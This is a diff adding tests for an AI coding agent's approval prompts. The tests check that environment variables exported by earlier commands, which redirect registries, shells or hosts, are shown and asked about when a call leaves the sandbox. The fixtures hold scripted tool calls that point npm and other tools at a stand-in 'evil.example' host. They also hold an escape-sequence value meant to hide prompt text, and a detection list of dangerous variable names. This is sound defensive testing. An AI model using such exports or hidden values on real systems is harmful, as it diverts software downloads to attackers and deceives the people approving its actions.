@@ -1,0 +1,101 @@
+"""Variables that earlier commands exported are shown, and asked about, where a call leaves the sandbox with them."""
+
+import asyncio
+import json
+from pathlib import Path
+
+import pytest
+
+from bradawl import ModelSettings, Settings, build_agent
+from bradawl.app.settings import RuleText
+from bradawl.app.tui.approve import granted_text
+from bradawl.core.permissions import Answer, Question
+from bradawl.safety.variables import is_execution_relevant, redirects_clients
+
+
+class Asked:
+    """Says yes to everything, once."""
+
+    def __init__(self) -> None:
+        self.questions: list[Question] = []
+
+    async def ask(self, question: Question) -> Answer:
+        self.questions.append(question)
+        return Answer(True, "user")
+
+    async def choose(self, choice: object) -> None:
+        return None
+
+
+def asked(tmp_path: Path, *lines: str) -> list[Question]:
+    """What is asked about these lines, without a sandbox and with a rule that allows `tar` and `npm`."""
+    script = [
+        {"tool_calls": [{"id": f"c{n}", "name": "bash", "arguments": {"command": line}}]}
+        for n, line in enumerate(lines)
+    ]
+    (tmp_path / "script.json").write_text(json.dumps([*script, {"text": "done"}]))
+    work = tmp_path / "work"
+    work.mkdir()
+    approver = Asked()
+    settings = Settings(
+        model=ModelSettings("scripted", str(tmp_path / "script.json")),
+        cwd=str(work),
+        home=str(tmp_path / "data"),
+        user_home=str(tmp_path),
+        environment={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
+        rules=tuple(RuleText("allow", f"Bash({name} *)", "user", str(tmp_path)) for name in ("tar", "npm")),
+        sandbox="off",
+        user_tools=False,
+    )
+    agent = build_agent(settings, approver)
+
+    async def main() -> None:
+        try:
+            await agent.run("go")
+        finally:
+            await agent.aclose()
+
+    asyncio.run(main())
+    return approver.questions
+
+
+NAMES = [
+    *("CVS_RSH", "RSYNC_CONNECT_PROG", "DBUS_SESSION_BUS_ADDRESS", "GNUPGHOME", "TWINE_REPOSITORY_URL", "S3_ENDPOINT"),
+    *("VAULT_ADDR", "HTTPS_PROXY", "https_proxy", "API_HOST", "BASE_URL", "PIP_EXTRA_INDEX_URL", "FOO_REGISTRY"),
+    *("KUBECONFIG", "DOCKER_HOST", "AWS_PROFILE", "SSH_AUTH_SOCK", "EDITOR", "VISUAL", "PAGER", "BROWSER", "CC", "LD"),
+    *("MAKEFLAGS", "HOSTCFLAGS", "CARGO_TARGET_X_RUNNER", "RUSTC_WRAPPER", "NPM_CONFIG_REGISTRY", "UV_DEFAULT_INDEX"),
+    *("npm_config_registry", "DATABASE_URL", "REDIS_URI", "MQ_BROKERS", "SENTRY_DSN", "PGHOST", "GIT_SSH", "GOPROXY"),
+]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_variable_that_names_a_program_or_a_machine_is_known(name: str) -> None:
+    assert is_execution_relevant(name) or redirects_clients(name)
+
+
+@pytest.mark.parametrize("name", ["DEBUG", "CI", "LANG", "NODE_ENV", "PORT", "ACME_ENV", "VERBOSE", "A", "NO_COLOR"])
+def test_an_ordinary_variable_is_not(name: str) -> None:
+    assert not is_execution_relevant(name)
+    assert not redirects_clients(name)
+
+
+@pytest.mark.parametrize("name", ["NPM_CONFIG_REGISTRY", "TAR_OPTIONS", "API_HOST", "CVS_RSH", "GNUPGHOME"])
+def test_an_allowed_call_outside_the_sandbox_asks_and_shows_them(tmp_path: Path, name: str) -> None:
+    questions = asked(tmp_path, f"export {name}=http://evil.example/", "tar --version; npm ci")
+    (question,) = (one for one in questions if "npm ci" in one.call.raw_arguments)
+    assert name in question.reason
+    assert f"with {name}=http://evil.example/, from an earlier command" in granted_text(question)
+
+
+def test_without_them_the_rule_holds_and_ordinary_ones_are_only_shown(tmp_path: Path) -> None:
+    questions = asked(tmp_path, "export STAGE=test", "tar --version", "make x")
+    (question,) = questions
+    assert "make x" in question.call.raw_arguments
+    assert "with STAGE=test, from an earlier command" in granted_text(question)
+
+
+def test_a_value_can_hide_nothing(tmp_path: Path) -> None:
+    questions = asked(tmp_path, "export A_URL=$'x\\n  y = once\\e[2J'", "make x")
+    text = granted_text(questions[-1])
+    assert "\x1b" not in text
+    assert "A_URL=x\\n  y = once" in text
